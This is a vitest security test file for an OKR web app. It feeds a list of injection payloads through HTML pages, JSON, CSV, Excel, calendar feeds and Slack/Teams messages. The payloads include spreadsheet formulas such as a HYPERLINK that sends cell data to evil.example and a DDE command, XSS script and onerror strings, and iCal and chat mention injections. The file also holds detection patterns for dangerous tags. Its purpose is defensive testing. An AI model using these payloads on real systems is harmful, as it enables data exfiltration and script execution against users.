import { SELF } from 'cloudflare:test'
import { parse } from 'csv-parse/sync'
import { unzipSync } from 'fflate'
import ical from 'node-ical'
import { beforeAll, describe, expect, test } from 'vitest'
import type { LinkKind } from '../../shared/api/index.ts'
import { bodyOf } from '../../worker/reminders/message.ts'
import { TEXTS } from '../../worker/reminders/texts.ts'
import { clientOf, joinTeam, newOrganization, newRow, SERVER, taken } from './server.ts'

const CYCLE = { name: '2026-Q4', start: '2026-10-01', end: '2027-10-01', state: 'running' } as const
const ALL = { titles: true, owners: true, notes: true }

/** What a person could type to make something happen where it is read, each with a word to find it by. */
const PAYLOADS: Readonly<Record<string, string>> = {
  formula: '=HYPERLINK("https://evil.example/?"&A1,"formulaX")',
  plus: "+cmd|' /C calc'!A0 plusX",
  minus: "-2+3+cmd|' /C calc'!A0 minusX",
  at: '@SUM(1+1) atX',
  tab: '\t=1+1 tabX',
  return: '\r=1+1 returnX',
  'full width': '＝1+1 fullX',
  script: '<script>alert("scriptX")</script>',
  handler: '"><img src=x onerror="alert(1)"> handlerX',
  attribute: "' onmouseover='alert(1)' x=' attributeX",
  entity: '&lt;script&gt; &#60;b&#62; entityX',
  'style end': '</style></title><script>1</script> styleX',
  address: 'javascript:alert(1) addressX',
  markdown: '[markdownX](javascript:alert(1)) ![x](https://evil.example/x.png) **bold**',
  'csv quote': '","=1+1","quoteX',
  'csv line': 'one\r\n=1+1,lineX\r\nthree',
  'xml end': ']]></t></si><x/> xmlX',
  'error name': '#REF! errorX',
  escape: '_x003D_1+1 escapeX',
  direction: '\u202Etxt.exe directionX',
  'calendar line': 'one\r\nEND:VEVENT\r\nATTENDEE:mailto:a@evil.example\r\nX-lineX:1',
  'calendar escape': 'one\\nATTENDEE;CN="a":mailto:a@evil.example, b; escapedX',
  'mention of all': '<!channel> <!here> @channel @everyone @here allX',
  'mention of one': '<@U123> <at>Ann</at> oneX',
  'chat link':
    '<https://evil.example/x|chatX> https://evil.example/x www.evil.example evil.example a@evil.example',
}
const WORDS = Object.values(PAYLOADS).map((payload) => /\w+X/.exec(payload)?.[0] ?? '')

/** Every text that somebody can type, by where it goes in. */
const TEAM_NAMES = Object.keys(PAYLOADS).map((name, place) => ({ name, id: `t${place}` }))

let feeds: { readonly program: string; readonly team: string }
const DOCUMENTS = ['story', 'review', 'retrospective'] as const
const LINKS = ['company', 'team', 'scaling', ...DOCUMENTS] as const
let links: Readonly<Record<(typeof LINKS)[number], string>>

beforeAll(async () => {
  const names = Object.values(PAYLOADS)
  const teams = [
    { id: 'company', parentId: null },
    { id: 'typed', parentId: 'company' },
    ...TEAM_NAMES.map(({ id }, place) => ({ id, parentId: 'company', name: names[place] ?? '' })),
  ]
  const { owner } = await newOrganization(teams, [CYCLE])
  const { code } = taken(await owner.call('invite', { params: { team: 'typed' }, body: {} }))
  const { token } = taken(
    await clientOf(null).call('join', { body: { code, person: PAYLOADS.script ?? '' } }),
  )
  const changes = Object.values(PAYLOADS).flatMap((text, place) => [
    ...newRow('objectives', `O${place}`, {
      title: text,
      owner: text,
      supports: text,
      notes: text,
      state: 'Agreed',
    }),
    ...newRow('keyResults', `K${place}`, {
      objectiveId: `O${place}`,
      title: text,
      owner: text,
      unit: text,
      type: 'Increase',
      baseline: 0,
      target: 10,
    }),
    ...newRow('checkIns', `C${place}`, {
      keyResultId: `K${place}`,
      date: '2026-10-02',
      value: 1,
      confidence: 1,
      by: text,
      whatChanged: text,
      blocker: text,
    }),
  ])
  for (const [place, { id }] of TEAM_NAMES.slice(0, 3).entries()) {
    const own = Array.from({ length: 9 }, (_, each) =>
      newRow('objectives', `T${each}`, { title: 'Win' }),
    ).flat()
    const client = clientOf(await joinTeam(owner, id))
    taken(
      await client.call('sync', {
        params: { team: id, cycle: CYCLE.name },
        body: { baseRevision: 0, changes: own },
      }),
    )
    const from = place * 9
    for (const [each, title] of Object.values(PAYLOADS)
      .slice(from, from + 9)
      .entries()) {
      changes.push(...newRow('objectives', `S${place}-${each}`, { title, supports: `${id}/T${each}` }))
    }
  }
  const params = { team: 'typed', cycle: CYCLE.name }
  taken(await clientOf(token).call('sync', { params, body: { baseRevision: 0, changes } }))
  taken(await owner.call('syncProgram', { body: { baseRevision: 0, changes: programOf(names) } }))
  const feed = async (body: { teamId?: string }) => taken(await owner.call('createFeed', { body })).url
  feeds = { program: await feed({}), team: await feed({ teamId: TEAM_NAMES[0]?.id ?? '' }) }
  const link = async (teamId: string, kind: LinkKind) =>
    taken(await owner.call('createLink', { body: { teamId, kind, show: ALL } })).url
  links = {
    company: await link('company', 'rollup'),
    team: await link('typed', 'rollup'),
    scaling: await link('company', 'scaling'),
    story: await link('company', 'story'),
    review: await link('company', 'review'),
    retrospective: await link('company', 'retrospective'),
  }
})

/** A program in its second cycle, with the texts in every table that its calendar and documents tell of. */
function programOf(texts: readonly string[]) {
  const dates = { firstCycleStart: '2026-10-05', cycleWeeks: 6, pilotCycles: 2 }
  const told = { purpose: texts[0], story: texts.join('\n'), quote: texts[7], quotedPerson: texts[8] }
  const values = Object.entries({ ...dates, ...told })
  return [
    ...values.flatMap(([key, value]) => newRow('values', key, { value: value ?? null })),
    ...texts.flatMap((text, place) => [
      ...newRow('leadTimes', `L${place}`, { task: text, owner: text, weeks: 2 }),
      ...newRow('candidates', `P${place}`, { team: text, size: 8, chosen: 'Yes' }),
      ...newRow('outcomes', `Z${place}`, {
        cycle: 1,
        meeting: 'Retrospective',
        kind: 'Improvement',
        text,
        owner: text,
      }),
      ...newRow('reviews', `Q${place}`, { cycle: 2, statement1: 4, keep: text, change: text }),
    ]),
  ]
}

const read = (link: (typeof LINKS)[number], form: string) => SELF.fetch(`${links[link]}${form}`)

describe.each(LINKS)('what people typed, through the %s link,', (link) => {
  const isDocument = DOCUMENTS.some((name) => name === link)
  /** As a table, a story is its figures alone. */
  const inTables = link === 'story' ? [] : Object.values(PAYLOADS)
  /** Documents put what was typed into sentences of theirs. */
  const isAsTyped = (payload: string) => (told: unknown) =>
    isDocument
      ? typeof told === 'string' && told.includes(/\w+X/.exec(payload)?.[0] ?? payload)
      : told === payload || told === `'${payload}`

  test('is text on the page', async () => {
    const html = await (await read(link, '')).text()
    for (const word of WORDS) expect(html).toContain(word)
    const tags = [...html.matchAll(/<(\/?[a-z]+[0-9]?|!doctype)((?:\s+[a-z][\w-]*(?:="[^"]*")?)*)\s*\/?>/gi)]
    // Every `<` begins one of our own tags, none of which can do anything.
    expect(html.split('<')).toHaveLength(tags.length + 1)
    for (const [, name = '', attributes = ''] of tags) {
      expect(['script', 'style', 'img', 'iframe', 'object', 'base']).not.toContain(name.replace('/', ''))
      expect(attributes).not.toMatch(/\s(on\w+|style|srcset)=/i)
      const href = /\s(?:href|src)="([^"]*)"/.exec(attributes)?.[1] ?? '/'
      expect(href).toMatch(/^(\/|#|data:,$|\?cycle=\d+$)/)
    }
  })

  test('comes back as it was typed in JSON', async () => {
    const response = await read(link, '.json')
    expect(response.headers.get('content-type')).toBe('application/json')
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    const values = valuesIn(await response.json())
    for (const payload of Object.values(PAYLOADS)) expect(values.some(isAsTyped(payload)), payload).toBe(true)
  })

  test('is no formula in CSV, and no line or column of its own', async () => {
    const rows = parse(await (await read(link, '.csv')).text(), { bom: true, relax_column_count: false })
    const cells = (rows as string[][]).flat()
    for (const cell of cells) {
      if (!Number.isFinite(Number(cell))) expect(cell).not.toMatch(/^\s*[=+\-@\t\r＝＋－＠]/)
    }
    for (const payload of inTables) {
      expect(cells.some(isAsTyped(payload)), payload).toBe(true)
    }
  })

  test('is text in the workbook, which has no formula, link or macro at all', async () => {
    const parts = unzipSync(new Uint8Array(await (await read(link, '.xlsx')).arrayBuffer()))
    const text = (name: string) => new TextDecoder().decode(parts[name])
    const sheets = Object.keys(parts).filter((name) => /worksheets\/sheet\d+\.xml$/.test(name))
    expect(sheets.length).toBeGreaterThan(isDocument ? 0 : 1)
    for (const name of sheets) expect(text(name)).not.toMatch(/<f[ >]|<hyperlink|t="e"/)
    expect(Object.keys(parts).join()).not.toMatch(/vba|externalLink|connections/i)
    const relations = Object.keys(parts).filter((name) => name.endsWith('.rels'))
    for (const name of relations) expect(text(name)).not.toContain('TargetMode="External"')
    const strings = text('xl/sharedStrings.xml')
    const texts = [strings, ...sheets.map(text)].join()
    expect(strings).not.toMatch(/<script|<img|<x\/>/)
    if (inTables.length === 0) return
    for (const word of WORDS) expect(texts).toContain(word)
    expect(strings).toContain('_x005F_x003D_1+1')
  })
})

test('titles of what supports an objective are text on its page, wherever they come from', async () => {
  const targets = TEAM_NAMES.slice(0, 3)
  const said: string[] = []
  for (const { id } of targets) {
    const response = await SELF.fetch(`${links.company}/${id}`)
    expect(response.status).toBe(200)
    const html = await response.text()
    expect(html).not.toMatch(/<(script|img|style)|onerror="/)
    said.push(html)
  }
  for (const word of WORDS) expect(said.join()).toContain(word)
})

test.each(['program', 'team'] as const)(
  'what people typed adds nothing to the calendar of the %s',
  async (which) => {
    const text = await (await SELF.fetch(feeds[which])).text()
    const names = text
      .replace(/\r\n[ \t]/g, '')
      .trimEnd()
      .split('\r\n')
      .map((line) => /^[A-Z-]+(?=[;:])/.exec(line)?.[0] ?? line)
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/)
    for (const name of names) expect(CALENDAR_LINES).toContain(name)
    const parts = Object.values(ical.sync.parseICS(text))
    const events = parts.flatMap((part) => (part?.type === 'VEVENT' ? [part] : []))
    expect(names.filter((name) => name === 'SUMMARY')).toHaveLength(events.length)
    const said = JSON.stringify(events)
    if (which === 'program') for (const word of WORDS) expect(said).toContain(word)
  },
)

/** Every line of a calendar of ours begins with one of these. */
const CALENDAR_LINES = [
  ...[
    'BEGIN',
    'END',
    'VERSION',
    'PRODID',
    'METHOD',
    'NAME',
    'X-WR-CALNAME',
    'X-WR-TIMEZONE',
    'X-PUBLISHED-TTL',
  ],
  ...['UID', 'SEQUENCE', 'DTSTAMP', 'DTSTART', 'DTEND', 'SUMMARY', 'DESCRIPTION', 'STATUS', 'CATEGORIES'],
  ...['ACTION', 'TRIGGER', 'TRANSP', 'X-OKR-FINGERPRINT', 'X-MICROSOFT-CDO-ALLDAYEVENT'],
  ...['X-MICROSOFT-MSNCALENDAR-ALLDAYEVENT', 'X-MICROSOFT-CDO-BUSYSTATUS'],
]

describe.each(['en', 'de'] as const)('what people typed, in a chat message in language %s,', (language) => {
  const texts = TEXTS[language]
  const messages = Object.values(PAYLOADS).flatMap((text) => [
    texts.test(text),
    texts.checkIn(text, [{ person: text, keyResults: 1 }]),
    texts.invitation(text, text, '2027-01-04', '2026-12-21'),
    texts.gate('Pilot', [text, text]),
  ])

  test('is no mention, link or line of its own in Slack', () => {
    for (const message of messages) {
      const { text, ...switches }: { text: string } = JSON.parse(bodyOf('slack', message))
      expect(text).not.toMatch(/[<>]|&(?!amp;|lt;|gt;)|@\w|:\/\/|\w\.[a-z]{2}/i)
      expect(text.split('\n')).toHaveLength(1 + message.lines.length)
      expect(switches).toMatchObject({ mrkdwn: false, link_names: false })
    }
    const all = messages.map((message) => bodyOf('slack', message)).join()
    for (const word of WORDS) expect(all).toContain(word)
  })

  test('is in Teams in text runs alone, which nothing is read into', () => {
    for (const message of messages) {
      const body = bodyOf('teams', message)
      expect(body).not.toMatch(/"TextBlock"|"entities"|"actions"|"url"/)
      for (const line of [message.title, ...message.lines]) expect(line).not.toMatch(/@\w|:\/\//)
      const { attachments } = JSON.parse(body)
      const blocks: { type: string; inlines: { type: string; text: string }[] }[] =
        attachments[0].content.body
      expect(new Set(blocks.map(({ type }) => type))).toEqual(new Set(['RichTextBlock']))
      expect(blocks.map(({ inlines }) => inlines[0]?.text)).toEqual([message.title, ...message.lines])
    }
  })
})

test('is no address of ours that it makes', async () => {
  for (const payload of Object.values(PAYLOADS)) {
    const address = `${links.company}/${encodeURIComponent(payload)}?cycle=${encodeURIComponent(payload)}`
    const response = await SELF.fetch(address)
    expect(response.status).toBe(404)
    expect(await response.text()).not.toMatch(/<script|<img|onerror=/)
  }
  expect((await SELF.fetch(`${SERVER}/r/${encodeURIComponent(PAYLOADS.script ?? '')}`)).status).toBe(404)
})

function valuesIn(value: unknown): unknown[] {
  if (typeof value !== 'object' || value === null) return [value]
  return Object.values(value).flatMap(valuesIn)
}
